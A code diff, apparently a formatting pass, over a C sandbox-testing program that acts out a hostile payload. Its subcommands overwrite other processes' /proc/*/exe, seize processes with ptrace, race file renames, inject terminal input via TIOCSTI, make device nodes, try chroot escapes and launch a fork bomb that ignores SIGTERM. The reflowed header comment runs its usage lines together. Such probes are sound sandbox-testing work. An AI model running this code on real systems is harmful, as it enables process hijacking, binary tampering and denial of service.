@@ -1,13 +1,13 @@
-// What a hostile payload would try, one subcommand each. Static, no library but libc; prints what it achieved.
-//   attack exe SECONDS        opens /proc/*/exe for writing, O_PATH and reopen, of every process it sees
-//   attack trace SECONDS      seizes every new process, reads its fd, mem, root, cwd
-//   attack swap A B SECONDS   exchanges two names for ever
-//   attack tiocsti            pushes a byte into its terminal and its descriptors
-//   attack fds                lists the descriptors above 2, and whether the cwd is inside
-//   attack open PATH FLAGS    opens (r, w) and says the errno
-//   attack mknod TYPE MAJ MIN makes and opens a device node in /tmp
-//   attack escape             the known ways out of a chroot
-//   attack bomb               forks for ever, and so do all its children; deaf to SIGTERM
+// What a hostile payload would try, one subcommand each. Static, no library but libc; prints what
+// it achieved.
+//   attack exe SECONDS        opens /proc/*/exe for writing, O_PATH and reopen, of every process it
+//   sees attack trace SECONDS      seizes every new process, reads its fd, mem, root, cwd attack
+//   swap A B SECONDS   exchanges two names for ever attack tiocsti            pushes a byte into
+//   its terminal and its descriptors attack fds                lists the descriptors above 2, and
+//   whether the cwd is inside attack open PATH FLAGS    opens (r, w) and says the errno attack
+//   mknod TYPE MAJ MIN makes and opens a device node in /tmp attack escape             the known
+//   ways out of a chroot attack bomb               forks for ever, and so do all its children; deaf
+//   to SIGTERM
 #define _GNU_SOURCE
 #include <dirent.h>
 #include <errno.h>
@@ -32,10 +32,10 @@ static double now(void) {
   return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
 }
 
-static int pids(int *list, int most) {
-  DIR *proc = opendir("/proc");
+static int pids(int* list, int most) {
+  DIR* proc = opendir("/proc");
   int count = 0;
-  struct dirent *entry;
+  struct dirent* entry;
   while (proc && (entry = readdir(proc)) && count < most)
     if (atoi(entry->d_name) > 0) list[count++] = atoi(entry->d_name);
   if (proc) closedir(proc);
@@ -59,7 +59,8 @@ static int attack_exe(double seconds) {
       if (fd < 0) {
         const int held = open(path, O_PATH | O_CLOEXEC);
         snprintf(path, sizeof path, "/proc/self/fd/%d", held);
-        for (int tries = 0; held >= 0 && fd < 0 && tries < 50; ++tries) fd = open(path, O_RDWR | O_CLOEXEC);
+        for (int tries = 0; held >= 0 && fd < 0 && tries < 50; ++tries)
+          fd = open(path, O_RDWR | O_CLOEXEC);
         if (held >= 0) close(held);
       }
       if (fd >= 0) {
@@ -86,13 +87,14 @@ static int attack_trace(double seconds) {
       if (file < 0) continue;
       if (read(file, comm, sizeof comm - 1) < 0) comm[0] = 0;
       close(file);
-      if (!strstr(comm, "wherry") && !strstr(comm, "3") && !strstr(comm, "memfd")) continue;  // the payload's own commands
+      if (!strstr(comm, "wherry") && !strstr(comm, "3") && !strstr(comm, "memfd"))
+        continue;  // the payload's own commands
       ++seen;
       if (ptrace(PTRACE_SEIZE, list[i], 0, 0) == 0) {
         ++hits;
         printf("seized %s", comm);
       }
-      for (const char **name = (const char *[]){"root", "cwd", "exe", 0}; *name; ++name) {
+      for (const char** name = (const char*[]){"root", "cwd", "exe", 0}; *name; ++name) {
         snprintf(path, sizeof path, "/proc/%d/%s", list[i], *name);
         if (readlink(path, buffer, sizeof buffer) > 0) {
           ++hits;
@@ -112,18 +114,19 @@ static int attack_trace(double seconds) {
   return 0;
 }
 
-static int attack_swap(const char *a, const char *b, double seconds) {
+static int attack_swap(const char* a, const char* b, double seconds) {
   const double end = now() + seconds;
   unsigned long swaps = 0;
   while (now() < end)
-    for (int i = 0; i < 1000; ++i) swaps += renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0;
+    for (int i = 0; i < 1000; ++i)
+      swaps += renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0;
   printf("swaps=%lu\n", swaps);
   return 0;
 }
 
 static int attack_tiocsti(void) {
   int pushed = 0;
-  const char *command = "X";
+  const char* command = "X";
   const int tty = open("/dev/tty", O_RDWR | O_CLOEXEC);
   const int fds[] = {0, 1, 2, tty};
   for (int i = 0; i < 4; ++i)
@@ -133,8 +136,8 @@ static int attack_tiocsti(void) {
 }
 
 static int attack_fds(void) {
-  DIR *dir = opendir("/proc/self/fd");
-  struct dirent *entry;
+  DIR* dir = opendir("/proc/self/fd");
+  struct dirent* entry;
   int found = 0;
   while (dir && (entry = readdir(dir))) {
     const int fd = atoi(entry->d_name);
@@ -150,15 +153,15 @@ static int attack_fds(void) {
   return 0;
 }
 
-static int attack_open(const char *path, const char *flags) {
+static int attack_open(const char* path, const char* flags) {
   const int fd = open(path, (strchr(flags, 'w') ? O_RDWR : O_RDONLY) | O_CLOEXEC);
   printf("%s\n", fd >= 0 ? "ok" : strerrorname_np(errno));
   return 0;
 }
 
-static int attack_mknod(const char *type, const char *major_text, const char *minor_text) {
+static int attack_mknod(const char* type, const char* major_text, const char* minor_text) {
   const dev_t dev = makedev((unsigned)atoi(major_text), (unsigned)atoi(minor_text));
-  const char *node = "/tmp/attack-node";
+  const char* node = "/tmp/attack-node";
   unlink(node);
   if (mknod(node, (type[0] == 'b' ? S_IFBLK : S_IFCHR) | 0666, dev) < 0) {
     printf("mknod %s\n", strerrorname_np(errno));
@@ -198,8 +201,8 @@ static int attack_bomb(void) {
     if (fork() < 0) usleep(20000);
 }
 
-int main(int argc, char **argv) {
-  const char *what = argc > 1 ? argv[1] : "";
+int main(int argc, char** argv) {
+  const char* what = argc > 1 ? argv[1] : "";
   if (!strcmp(what, "exe") && argc > 2) return attack_exe(atof(argv[2]));
   if (!strcmp(what, "trace") && argc > 2) return attack_trace(atof(argv[2]));
   if (!strcmp(what, "swap") && argc > 4) return attack_swap(argv[2], argv[3], atof(argv[4]));
